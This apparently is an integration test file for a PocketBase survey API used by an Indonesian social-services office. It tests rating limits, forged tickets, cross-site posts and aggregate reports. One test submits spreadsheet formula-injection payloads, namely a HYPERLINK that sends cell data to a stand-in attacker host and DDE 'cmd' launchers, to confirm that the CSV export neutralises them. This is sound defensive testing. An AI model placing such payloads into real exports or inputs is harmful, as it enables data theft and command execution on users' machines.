// The satisfaction survey against a real PocketBase: the applicant rates a finished request once
// and may change it for 7 days; the counter takes anonymous responses a few per device; the
// public report and the kepala bidang's report are aggregates. Tried as an attacker would: a
// wrong verifier, a flood from one device and from one address, reading answers through the API.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type PocketBase from 'pocketbase';
import {
  client,
  createStaff,
  purwakartaAccounts,
  serviceBySlug,
  startTestPocketBase,
  type PurwakartaAccounts,
  type StaffAccount,
  type TestPocketBase,
  trailChained,
} from '../support/pocketbase';
import { proposalForm } from '../support/proposal-form';
import type { PerformanceReport, ServicePerformance, SurveyReport } from '../../src/domain/performance';
import { SURVEY_ELEMENTS } from '../../src/domain/satisfaction-survey';

let server: TestPocketBase;
let accounts: PurwakartaAccounts;

const ALL_FOURS = Object.fromEntries(SURVEY_ELEMENTS.map((element) => [element.key, '4']));

async function post(path: string, body: Record<string, unknown>, headers: Record<string, string> = {}, from = server) {
  const response = await fetch(`${from.url}${path}`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', Accept: 'application/json', ...headers },
    body: JSON.stringify(body),
  });
  return { status: response.status, body: await response.json(), headers: response.headers };
}
const rate = (number: string, verifier: string, answers: Record<string, unknown>) =>
  post('/api/layanan/survei', { number, verifier, ...answers });
const lookup = (number: string, verifier: string) => post('/api/layanan/status', { number, verifier });

/** A request of a service registered by the petugas and finished by the kepala bidang. */
async function finishedRequest(
  slug: string,
  phone: string,
  by: { petugas: StaffAccount; kepala: StaffAccount } = accounts,
) {
  const service = await serviceBySlug(server, slug);
  const request = await by.petugas.pb
    .collection('requests')
    .create({ service: service.id, agency: service['agency'], applicant_name: 'Warga Uji', applicant_phone: phone });
  const steps = (request['steps'] as string[]).length;
  await by.kepala.pb
    .collection('request_events')
    .create({ request: request.id, step: steps, status: 'selesai', public_note: 'Selesai.', staff: by.kepala.id });
  return request;
}

async function publicReport(period?: string, from = server) {
  const response = await fetch(`${from.url}/api/data/kinerja${period ? `?periode=${period}` : ''}`);
  return { response, report: (await response.json()) as PerformanceReport };
}
const serviceIn = (report: PerformanceReport, slug: string) =>
  report.offices.flatMap((office) => office.services).find((service) => service.slug === slug) as ServicePerformance;

async function responsesWith(number: string) {
  return server.admin
    .collection('survey_responses')
    .getFullList({ filter: server.admin.filter('number = {:number}', { number }) });
}

beforeAll(async () => {
  server = await startTestPocketBase({ env: { LAYANAN_STATUS_RATE_LIMIT: '100000/60' } });
  accounts = await purwakartaAccounts(server);
});
afterAll(() => server?.stop());

describe('rating a finished request with its number', () => {
  it('is offered once finished, and not before', async () => {
    const service = await serviceBySlug(server, 'rujukan-ppks-terlantar');
    const open = await accounts.petugas.pb.collection('requests').create({
      service: service.id,
      agency: service['agency'],
      applicant_name: 'Warga Uji',
      applicant_phone: '0812-1000-2001',
    });
    expect((await lookup(open['number'], '2001')).body.survey).toBeNull();
    const early = await rate(open['number'], '2001', ALL_FOURS);
    expect(early.status).toBe(409);
    expect(early.body.message).toContain('setelah permohonan Anda selesai');
    expect(await responsesWith(open['number'])).toEqual([]);
  });

  it('is taken once; a second response within 7 days changes it rather than adding one', async () => {
    const request = await finishedRequest('surat-keterangan-dtks', '0812-1000-2002');
    expect((await lookup(request['number'], '2002')).body.survey).toEqual({ submittedAt: null, editableUntil: null });

    const first = await rate(request['number'], '2002', {
      ...ALL_FOURS,
      biaya: '',
      gender: 'perempuan',
      age_range: '30-39',
      suggestion: 'Ruang tunggu kurang kursi.',
    });
    expect(first.status).toBe(200);
    expect(first.body.state).toBe('baru');
    const sevenDays =
      new Date(first.body.offer.editableUntil).getTime() - new Date(first.body.offer.submittedAt).getTime();
    expect(sevenDays).toBe(7 * 24 * 3600 * 1000);
    expect(first.headers.get('cache-control')).toBe('no-store');

    const second = await rate(request['number'].toLowerCase(), '2002', { persyaratan: '2', waktu: '3' });
    expect(second.body).toMatchObject({ state: 'diubah', offer: first.body.offer });
    const stored = await responsesWith(request['number']);
    expect(stored).toHaveLength(1);
    // The second response replaces the first entirely: what it left out is empty now.
    expect(stored[0]).toMatchObject({
      channel: 'permohonan',
      persyaratan: 2,
      waktu: 3,
      biaya: 0,
      sarana: 0,
      gender: '',
      suggestion: '',
    });
    expect(stored[0]!['edited_at']).not.toBe('');
    expect((await lookup(request['number'], '2002')).body.survey).toEqual(first.body.offer);
  });

  it('keeps a response as it was once its 7 days are over', async () => {
    const request = await finishedRequest('surat-keterangan-dtks', '0812-1000-2003');
    await rate(request['number'], '2003', ALL_FOURS);
    const [response] = await responsesWith(request['number']);
    await server.admin
      .collection('survey_responses')
      .update(response!.id, { submitted_at: new Date(Date.now() - 8 * 24 * 3600 * 1000).toISOString() });
    const late = await rate(request['number'], '2003', { persyaratan: '1' });
    expect(late.status).toBe(409);
    expect(late.body.message).toContain('7 hari');
    expect((await responsesWith(request['number']))[0]!['persyaratan']).toBe(4);
  });

  it('refuses a wrong verifier exactly as an unknown number, stores nothing, and soon asks a guesser for work', async () => {
    const request = await finishedRequest('surat-keterangan-dtks', '0812-1000-2004');
    const wrong = await rate(request['number'], '9999', ALL_FOURS);
    const unknown = await rate('PWK-0000-0000-0', '2004', ALL_FOURS);
    expect(wrong.status).toBe(404);
    expect(wrong.body).toEqual((await lookup(request['number'], '9999')).body);
    expect([400, 404]).toContain(unknown.status);
    await rate(request['number'], '9998', ALL_FOURS);
    await rate(request['number'], '9997', ALL_FOURS);
    const guarded = await rate(request['number'], '2004', ALL_FOURS);
    expect(guarded.status).toBe(428);
    expect(guarded.body.code).toBe('perlu-bukti-kerja');
    expect(await responsesWith(request['number'])).toEqual([]);
  });

  it('names the field of a malformed answer and stores nothing', async () => {
    const request = await finishedRequest('surat-keterangan-dtks', '0812-1000-2005');
    for (const [answers, field] of [
      [{ waktu: '5' }, 'waktu'],
      [{ persyaratan: '3.5' }, 'persyaratan'],
      [{}, 'persyaratan'],
      [{ waktu: '3', occupation: 'presiden' }, 'occupation'],
      [{ waktu: '3', suggestion: 'baik\u202Eedoc' }, 'suggestion'],
    ] as const) {
      const refused = await rate(request['number'], '2005', answers);
      expect(refused.status, JSON.stringify(answers)).toBe(400);
      expect(refused.body.problems[0].field).toBe(field);
    }
    expect(await responsesWith(request['number'])).toEqual([]);
  });

  it("rates a finished village proposal with its contact phone, for the office's proposals service", async () => {
    const proposal = await accounts.operator.pb
      .collection('proposals')
      .create(await proposalForm(accounts.operator.placeId));
    await accounts.kepala.pb
      .collection('proposal_events')
      .create({ proposal: proposal.id, status: 'ditolak', public_note: 'Bukan kejadian bencana.' });
    const rated = await rate(proposal['number'], '4321', ALL_FOURS);
    expect(rated.status).toBe(200);
    const service = await serviceBySlug(server, 'pengusulan-logistik-kebencanaan');
    expect((await responsesWith(proposal['number']))[0]).toMatchObject({
      channel: 'usulan',
      service: service.id,
      agency: service['agency'],
    });
  });
});

describe('an answered complaint', () => {
  it('is not offered the service questionnaire, cannot be rated with its number, and its complainant is no service user', async () => {
    const agency = await server.admin.collection('agencies').getFirstListItem('slug = "dinsos-p3a-purwakarta"');
    const complaint = await server.admin.collection('complaints').create({
      agency: agency.id,
      kind: 'pengaduan',
      identity: 'anonim',
      description: 'Antrean tidak tertib, banyak yang menyerobot.',
      reply_channel: 'halaman-status',
      status_verifier: '6543',
      idempotency_key: 'survei-pengaduan-0000000001',
    });
    // The office's figures as the kepala bidang's report counts them now (the public one is counted at most once a minute).
    // (A kepala bidang of its own: every read is audited, and another test counts the first one's.)
    const kepala = await createStaff(server, 'dinsos-p3a-purwakarta', 'kepala_bidang');
    const officeFigures = async () => {
      const period = (await publicReport()).report.period.id;
      const response = await fetch(`${server.url}/api/petugas/survei?periode=${period}`, {
        headers: { Authorization: kepala.pb.authStore.token },
      });
      return ((await response.json()) as SurveyReport).satisfaction;
    };
    const before = await officeFigures();

    const act = (fields: Record<string, unknown>) =>
      accounts.petugas.pb
        .collection('complaint_events')
        .create({ complaint: complaint.id, staff: accounts.petugas.id, ...fields });
    await act({ status: 'diverifikasi' });
    await act({ status: 'dijawab', public_note: 'Mulai pekan depan nomor antrean dibagikan di pintu masuk.' });
    const answered = (await lookup(complaint['number'], '6543')).body;
    expect(answered.status).toBe('dijawab');
    expect(answered.survey).toBeNull();
    const refused = await rate(complaint['number'], '6543', ALL_FOURS);
    expect([refused.status, refused.body.message]).toEqual([
      409,
      'Penilaian layanan diberikan untuk permohonan dan usulan. Untuk pengaduan, beri tahu kami di halaman cek status apakah masalahnya sudah selesai.',
    ]);
    expect(await responsesWith(complaint['number'])).toEqual([]);

    // Answered, it is finished for the complaints' figures, but no user of a service the questionnaire asks about.
    const after = await officeFigures();
    expect(after.serviceUsers).toBe(before.serviceUsers);
    expect(after.respondents).toBe(before.respondents);
  });
});

describe('at the counter', () => {
  const counter = (body: Record<string, unknown>, cookie?: string, from = server) =>
    post('/api/layanan/survei/loket', body, cookie ? { Cookie: cookie } : {}, from);

  it('is marked as a counter response, tied to no number, and a device sends at most 3 a day', async () => {
    const first = await counter({ service: 'kedaruratan-ppks', ...ALL_FOURS });
    expect(first.status).toBe(201);
    const setCookie = first.headers.get('set-cookie')!;
    expect(setCookie).toMatch(
      /^survei_loket=1\.\d+\.[0-9a-f]+; Path=\/api\/layanan\/survei\/loket; Max-Age=\d+; HttpOnly; SameSite=Strict$/,
    );
    let cookie = setCookie.split(';')[0]!;
    for (const expected of [2, 3]) {
      const next = await counter({ service: 'kedaruratan-ppks', waktu: '3' }, cookie);
      expect(next.status).toBe(201);
      cookie = next.headers.get('set-cookie')!.split(';')[0]!;
      expect(cookie).toMatch(new RegExp(`^survei_loket=${expected}\\.`));
    }
    const fourth = await counter({ service: 'kedaruratan-ppks', waktu: '3' }, cookie);
    expect(fourth.status).toBe(429);
    expect(fourth.body.message).toContain('3 penilaian dalam 24 jam');
    // A count the device made up is not believed: it starts again at one, as a new device.
    const forged = await counter({ service: 'kedaruratan-ppks', waktu: '3' }, cookie.replace(/=3\./, '=0.'));
    expect(forged.headers.get('set-cookie')).toMatch(/^survei_loket=1\./);

    const service = await serviceBySlug(server, 'kedaruratan-ppks');
    const stored = await server.admin
      .collection('survey_responses')
      .getFullList({ filter: server.admin.filter('service = {:id}', { id: service.id }) });
    expect(stored).toHaveLength(4);
    expect(stored.every((response) => response['channel'] === 'loket' && response['number'] === '')).toBe(true);
  });

  it('refuses an unknown service and a response with no answer', async () => {
    expect((await counter({ service: 'tidak-ada', ...ALL_FOURS })).body.problems[0].field).toBe('service');
    expect((await counter({ service: 'kedaruratan-ppks' })).body.problems[0].field).toBe('persyaratan');
  });

  it('works as a plain HTML form without JavaScript: the confirmation page, or the page that says why not', async () => {
    const send = async (fields: Record<string, string>) => {
      const form = new FormData();
      for (const [name, value] of Object.entries(fields)) form.append(name, value);
      const response = await fetch(`${server.url}/api/layanan/survei/loket`, {
        method: 'POST',
        headers: { Accept: 'text/html,application/xhtml+xml' },
        body: form,
        redirect: 'manual',
      });
      return [response.status, response.headers.get('location')];
    };
    expect(await send({ service: 'kedaruratan-ppks', ...ALL_FOURS, suggestion: '0812' })).toEqual([
      303,
      '/survei/terima-kasih/',
    ]);
    expect(await send({ service: 'kedaruratan-ppks' })).toEqual([303, '/survei/belum-terkirim/#jawaban']);
    expect(await send({ persyaratan: '4' })).toEqual([303, '/survei/belum-terkirim/#layanan']);
    expect(await send({ service: 'kedaruratan-ppks', waktu: '4', suggestion: 'x'.repeat(1001) })).toEqual([
      303,
      '/survei/belum-terkirim/#saran',
    ]);
    // A suggestion of digits is kept as typed (not read as a number).
    const kept = await server.admin.collection('survey_responses').getFirstListItem('suggestion = "0812"');
    expect(kept['channel']).toBe('loket');
  });

  it('cannot make up an index: 24 responses of all 1s, each from a device without its cookie, are shown apart, never counted', async () => {
    const ALL_ONES = Object.fromEntries(Object.keys(ALL_FOURS).map((key) => [key, '1']));
    for (let index = 0; index < 24; index++)
      expect((await counter({ service: 'santunan-anak-terlantar', ...ALL_ONES })).status).toBe(201);
    const { report } = await publicReport();
    const published = serviceIn(report, 'santunan-anak-terlantar').satisfaction;
    expect(published).toMatchObject({ respondents: 0, byChannel: { loket: 24 }, state: 'belum-ada', index: null });
    // Kept for the office: its head sees them in the report, apart from the index's respondents.
    const kepala = await createStaff(server, 'dinsos-pppa-banjarnegara', 'kepala_bidang');
    const theirs = (await (
      await fetch(`${server.url}/api/petugas/survei?periode=${report.period.id}`, {
        headers: { Authorization: kepala.pb.authStore.token },
      })
    ).json()) as SurveyReport;
    expect(theirs.satisfaction).toMatchObject({ respondents: 0, byChannel: { loket: 24 }, index: null });
    const kept = await server.admin.collection('survey_responses').getFullList({
      filter: server.admin.filter('service.slug = {:slug}', { slug: 'santunan-anak-terlantar' }),
    });
    expect(
      kept.every((response) => response['persyaratan'] === 0 && response['counter_answers']['persyaratan'] === 1),
    ).toBe(true);
  });

  it("refuses a post another website makes a visitor's browser send, as a plain form or a script, with a number or without", async () => {
    const service = await serviceBySlug(server, 'kedaruratan-ppks');
    const stored = async () =>
      (
        await server.admin
          .collection('survey_responses')
          .getList(1, 1, { filter: server.admin.filter('service = {:id}', { id: service.id }) })
      ).totalItems;
    const before = await stored();
    const asForm = new URLSearchParams({ service: 'kedaruratan-ppks', ...ALL_FOURS });
    for (const [path, headers, body] of [
      ['/api/layanan/survei/loket', { Origin: 'https://penipu.example', Accept: 'text/html' }, asForm],
      ['/api/layanan/survei/loket', { Origin: 'null' }, asForm],
      ['/api/layanan/survei/loket', { 'Sec-Fetch-Site': 'cross-site' }, asForm],
      ['/api/layanan/survei/loket', { 'Sec-Fetch-Site': 'same-site' }, asForm],
      ['/api/layanan/survei', { Origin: 'https://penipu.example' }, new URLSearchParams({ number: 'PWK-AAAA-AAAA-A' })],
    ] as const) {
      const response = await fetch(`${server.url}${path}`, { method: 'POST', headers, body, redirect: 'manual' });
      expect(response.status, `${path} ${JSON.stringify(headers)}`).toBe(403);
      expect((await response.json()).message).toContain('hanya dapat dikirim dari situs layanan ini');
    }
    expect(await stored()).toBe(before);
    // The site's own pages: the same origin, or a browser that says so.
    for (const headers of [{ Origin: server.url }, { 'Sec-Fetch-Site': 'same-origin' }] as Record<string, string>[])
      expect(
        (await fetch(`${server.url}/api/layanan/survei/loket`, { method: 'POST', headers, body: asForm })).status,
      ).toBe(201);
    expect(await stored()).toBe(before + 2);
  });

  describe('under the real limits', () => {
    let limited: TestPocketBase;
    beforeAll(async () => {
      limited = await startTestPocketBase({
        env: { LAYANAN_SURVEY_COUNTER_RATE_LIMIT: '5/3600' },
        defaultRateLimits: true,
      });
    });
    afterAll(() => limited?.stop());

    it('a script dropping the cookie is stopped by the limit per address', async () => {
      const statuses: number[] = [];
      for (let attempt = 0; attempt < 7; attempt++)
        statuses.push((await counter({ service: 'kedaruratan-ppks', ...ALL_FOURS }, undefined, limited)).status);
      expect(statuses).toEqual([201, 201, 201, 201, 201, 429, 429]);
      expect((await limited.admin.collection('survey_responses').getList(1, 1)).totalItems).toBe(5);
    });
  });
});

describe('who reads the answers', () => {
  it("nobody lists, views, creates, edits or deletes responses through the API — not even the office's head", async () => {
    const [response] = await server.admin
      .collection('survey_responses')
      .getList(1, 1)
      .then((page) => page.items);
    const clients: Record<string, PocketBase> = {
      tamu: client(server.url),
      petugas: accounts.petugas.pb,
      kepala: accounts.kepala.pb,
      operator: accounts.operator.pb,
    };
    for (const [who, pb] of Object.entries(clients)) {
      const responses = pb.collection('survey_responses');
      const statuses = await Promise.all([
        responses.getList(1, 10).then(
          () => 200,
          (error) => error.status,
        ),
        responses.getOne(response!.id).then(
          () => 200,
          (error) => error.status,
        ),
        responses
          .create({
            ...ALL_FOURS,
            channel: 'loket',
            service: response!['service'],
            agency: response!['agency'],
            submitted_at: new Date().toISOString(),
          })
          .then(
            () => 200,
            (error) => error.status,
          ),
        responses.update(response!.id, { persyaratan: 1 }).then(
          () => 200,
          (error) => error.status,
        ),
        responses.delete(response!.id).then(
          () => 200,
          (error) => error.status,
        ),
      ]);
      expect(
        statuses.every((status) => status === 403 || status === 404),
        `${who}: ${statuses}`,
      ).toBe(true);
    }
  });

  it('the public report has counts and averages only, each with its sample, and is cached with an ETag', async () => {
    await finishedRequest('rujukan-ppks-terlantar', '0812-1000-2010');
    const { response, report } = await publicReport();
    expect(response.headers.get('cache-control')).toBe('public, no-cache');
    const etag = response.headers.get('etag')!;
    expect((await fetch(`${server.url}/api/data/kinerja`, { headers: { 'If-None-Match': etag } })).status).toBe(304);
    const text = JSON.stringify(report);
    for (const secret of ['Ruang tunggu', '0812', 'Warga Uji', 'perempuan', '30-39', 'PWK-'])
      expect(text).not.toContain(secret);
    // Few respondents: a count and the sample needed, never an average one person's answers would make.
    const sktm = serviceIn(report, 'surat-keterangan-dtks');
    expect(sktm.satisfaction).toMatchObject({ byChannel: { usulan: 0, loket: 0 }, state: 'belum-cukup', index: null });
    expect(sktm.satisfaction.respondents).toBeGreaterThanOrEqual(1);
    expect(sktm.satisfaction.serviceUsers).toBeGreaterThanOrEqual(sktm.satisfaction.respondents);
    expect(sktm.complaints).toEqual({
      received: 0,
      answeredWithinDeadline: 0,
      answeredLate: 0,
      unanswered: 0,
      outOfRemit: 0,
    });
    // Within the promised time: finished requests of services whose standard promises one (3 h 30 min here).
    expect(sktm.timeliness).toBeNull();
    expect(serviceIn(report, 'rujukan-ppks-terlantar').timeliness).toEqual({ finished: 1, withinTime: 1 });
    expect(report.periods[0]!.id).toBe(report.period.id);
    expect((await fetch(`${server.url}/api/data/kinerja?periode=semester-depan`)).status).toBe(400);
  });

  it('grades a service once its respondents are enough, and counts a new response at once', async () => {
    const before = await publicReport();
    const numbers: string[] = [];
    for (let index = 0; index < 5; index++)
      numbers.push((await finishedRequest('pengusulan-pbi-apbd', `0813-2000-300${index}`))['number']);
    // Five users, five responses: all fours but one respondent's 3 for waktu.
    // NRR waktu = 19 / 5 = 3.8; Σ NRR = 8 × 4 + 3.8 = 35.8; × 25 / 9 = 99.444 → 99.44, A.
    for (const [index, number] of numbers.entries())
      expect((await rate(number, `300${index}`, { ...ALL_FOURS, waktu: index === 0 ? '3' : '4' })).status).toBe(200);
    const after = await publicReport();
    expect(after.response.headers.get('etag')).not.toBe(before.response.headers.get('etag'));
    const pbi = serviceIn(after.report, 'pengusulan-pbi-apbd').satisfaction;
    expect(pbi).toMatchObject({
      respondents: 5,
      serviceUsers: 5,
      requiredRespondents: 5,
      state: 'cukup',
      index: { converted: 99.44, grade: 'A', quality: 'Sangat baik' },
    });
    expect(pbi.index!.elements.find((element) => element.key === 'waktu')).toMatchObject({
      answered: 5,
      sum: 19,
      nrr: 3.8,
    });
    // The office's own figures take in all its services' responses.
    const office = after.report.offices.find((candidate) => candidate.slug === 'dinsos-p3a-purwakarta')!;
    // (The counter's responses of the tests before are not among them.)
    expect(office.satisfaction.respondents).toBeGreaterThanOrEqual(5 + 2);
  });

  it("the kepala bidang reads their own office's report with suggestions, as JSON and CSV; the petugas cannot; both reads are audited", async () => {
    const period = (await publicReport()).report.period.id;
    const headers = (account: StaffAccount) => ({ Authorization: account.pb.authStore.token });
    const asPetugas = await fetch(`${server.url}/api/petugas/survei?periode=${period}`, {
      headers: headers(accounts.petugas),
    });
    expect(asPetugas.status).toBe(403);
    expect((await fetch(`${server.url}/api/petugas/survei?periode=${period}`)).status).toBe(401);

    const response = await fetch(`${server.url}/api/petugas/survei?periode=${period}`, {
      headers: headers(accounts.kepala),
    });
    expect(response.headers.get('cache-control')).toBe('no-store');
    const report = (await response.json()) as SurveyReport;
    expect(report.office.slug).toBe('dinsos-p3a-purwakarta');
    expect(report.services.find((service) => service.slug === 'kedaruratan-ppks')!.suggestions).toEqual(['0812']);
    expect(report.profile).not.toBeNull();
    const text = JSON.stringify(report);
    for (const secret of ['PWK-', 'submitted_at', 'Warga Uji']) expect(text).not.toContain(secret);

    const csv = await (
      await fetch(`${server.url}/api/petugas/survei?periode=${period}&format=csv`, {
        headers: headers(accounts.kepala),
      })
    ).text();
    const lines = csv
      .replace(/^\ufeff/, '')
      .trim()
      .split('\r\n');
    expect(lines[0]).toMatch(
      new RegExp(
        '^"Layanan","Responden","Lewat nomor permohonan","Lewat nomor usulan desa","Lewat nomor pengaduan","Di loket \\(kode QR\\)",' +
          '"Pengguna layanan","Responden minimal","Keadaan sampel","NRR U1 Persyaratan",',
      ),
    );
    expect(lines.find((line) => line.startsWith('"Pengusulan PBI APBD"'))).toContain(',"99.44","A","Sangat baik"');
    expect(lines).toContain('"Layanan Kedaruratan bagi PPKS","0812"');

    // Another office's head sees only theirs.
    const banjarnegara = await createStaff(server, 'dinsos-pppa-banjarnegara', 'kepala_bidang');
    const theirs = (await (
      await fetch(`${server.url}/api/petugas/survei?periode=${period}`, { headers: headers(banjarnegara) })
    ).json()) as SurveyReport;
    expect(theirs.office.slug).toBe('dinsos-pppa-banjarnegara');
    expect(theirs.satisfaction.respondents).toBe(0);
    expect(theirs.profile).toBeNull();

    // (Their reads: other tests' kepala bidang read the report too.)
    await trailChained(server);
    const trail = await server.admin.collection('audit_log').getFullList({
      filter: server.admin.filter('target_label ~ "Semester" && (actor_id = {:kepala} || actor_id = {:other})', {
        kepala: accounts.kepala.id,
        other: banjarnegara.id,
      }),
      sort: 'seq',
    });
    expect(trail.map((entry) => [entry['actor_id'], entry['detail']['format']])).toEqual([
      [accounts.kepala.id, 'json'],
      [accounts.kepala.id, 'csv'],
      [banjarnegara.id, 'json'],
    ]);
  });
});

describe("the kepala bidang's spreadsheet", () => {
  it('holds suggestions written as formulas as text, so opening the file runs nothing', async () => {
    const formulas = [
      '=HYPERLINK("http://penyerang.test/?"&A2;"Klik di sini")',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
    ];
    for (const [index, formula] of formulas.entries()) {
      const request = await finishedRequest('pengusulan-dtks', `0813-4000-500${index}`);
      expect((await rate(request['number'], `500${index}`, { ...ALL_FOURS, suggestion: formula })).status).toBe(200);
    }
    const period = (await publicReport()).report.period.id;
    const csv = await (
      await fetch(`${server.url}/api/petugas/survei?periode=${period}&format=csv`, {
        headers: { Authorization: accounts.kepala.pb.authStore.token },
      })
    ).text();
    for (const formula of formulas)
      expect(csv).toContain(`"Pengusulan Data Terpadu Kesejahteraan Sosial","'${formula.replace(/"/g, '""')}"`);
    // No cell of the file (each quoted) starts with what a spreadsheet program would run.
    expect(csv.replace(/^\ufeff/, '')).not.toMatch(/(^|,|\n)"[=+\-@\t\r]/);
  });
});

describe("the receipt's survey ticket", () => {
  // Last in the file: its reads of the public report keep it for a minute (PUBLIC_ANSWER_TTL_MS).
  it("is given to staff of the request's office alone, rates the finished request once and counts; a forged one opens nothing", async () => {
    const ticketOf = async (number: string, account?: StaffAccount) => {
      const response = await fetch(`${server.url}/api/petugas/tanda-terima/tiket-survei?no=${number}`, {
        headers: account ? { Authorization: account.pb.authStore.token } : {},
      });
      return { status: response.status, ticket: (await response.json()).ticket as string };
    };
    const finished = await finishedRequest('pengusulan-dtks', '0813-2000-7001');
    const other = await finishedRequest('pengusulan-dtks', '0813-2000-7002');
    const { ticket } = await ticketOf(finished['number'], accounts.petugas);
    expect(ticket).toMatch(new RegExp(`^${finished['number']}\\.[0-9a-f]{64}$`));
    expect((await ticketOf(finished['number'])).status).toBe(401);
    expect((await ticketOf(finished['number'], await createStaff(server, 'dinsos-pppa-banjarnegara'))).status).toBe(
      404,
    );

    const before = serviceIn((await publicReport()).report, 'pengusulan-dtks').satisfaction.byChannel.permohonan;
    expect((await post('/api/layanan/survei', { tiket: ticket, ...ALL_FOURS })).body.state).toBe('baru');
    expect((await post('/api/layanan/survei', { tiket: ticket, ...ALL_FOURS, waktu: '3' })).body.state).toBe('diubah');
    expect(await responsesWith(finished['number'])).toMatchObject([{ channel: 'permohonan', waktu: 3 }]);
    expect(serviceIn((await publicReport()).report, 'pengusulan-dtks').satisfaction.byChannel.permohonan).toBe(
      before + 1,
    );

    // Another request's number under this signature, a changed signature: refused, nothing stored.
    const signature = ticket.split('.')[1]!;
    for (const forged of [`${other['number']}.${signature}`, `${finished['number']}.${'0'.repeat(64)}`, 'PWK-1234']) {
      const refused = await post('/api/layanan/survei', { tiket: forged, ...ALL_FOURS });
      expect(refused.status, forged).toBe(401);
      expect(refused.body.message).toContain('Kode QR penilaian ini tidak dikenali');
    }
    expect(await responsesWith(other['number'])).toEqual([]);
    // A request not finished yet: its ticket waits for it.
    const open = await accounts.petugas.pb.collection('requests').create({
      service: other['service'],
      agency: other['agency'],
      applicant_name: 'Warga Uji',
      applicant_phone: '0813-2000-7003',
    });
    const early = await post('/api/layanan/survei', {
      tiket: (await ticketOf(open['number'], accounts.petugas)).ticket,
    });
    expect(early.status).toBe(409);
    expect(early.body.message).toContain('setelah permohonan Anda selesai');
  });
});
